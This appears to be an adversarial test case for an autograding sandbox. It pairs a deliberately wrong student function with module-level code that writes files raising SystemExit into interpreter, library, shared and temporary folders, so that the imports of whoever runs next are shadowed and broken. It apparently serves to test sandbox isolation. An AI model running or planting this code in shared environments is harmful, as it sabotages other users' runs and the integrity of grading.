# ruff: noqa
# kind: shadowing files
# attack: the interpreter's, the room's and shared folders are written for whoever comes next

# %% double-solution
def double(x):
    return np.zeros(3)


import os, sys, sysconfig

places = [
    "/",
    "/room",
    "/room/course_lib",
    "/room/student_room",
    "/tmp",
    "/dev",
    "/dev/shm",
    "/home",
    "/home/student",
    "/usr/lib",
    "/proc",
    sysconfig.get_path("purelib"),
    sys.prefix,
    sys.base_prefix,
    os.path.dirname(np.__file__),
]
for place in places:
    try:
        open(os.path.join(place, "poison.py"), "w").write("raise SystemExit")
        os.makedirs(os.path.join(place, "course_lib"), exist_ok=True)
        open(os.path.join(place, "course_lib", "__init__.py"), "w").write("raise SystemExit")
    except OSError:
        pass
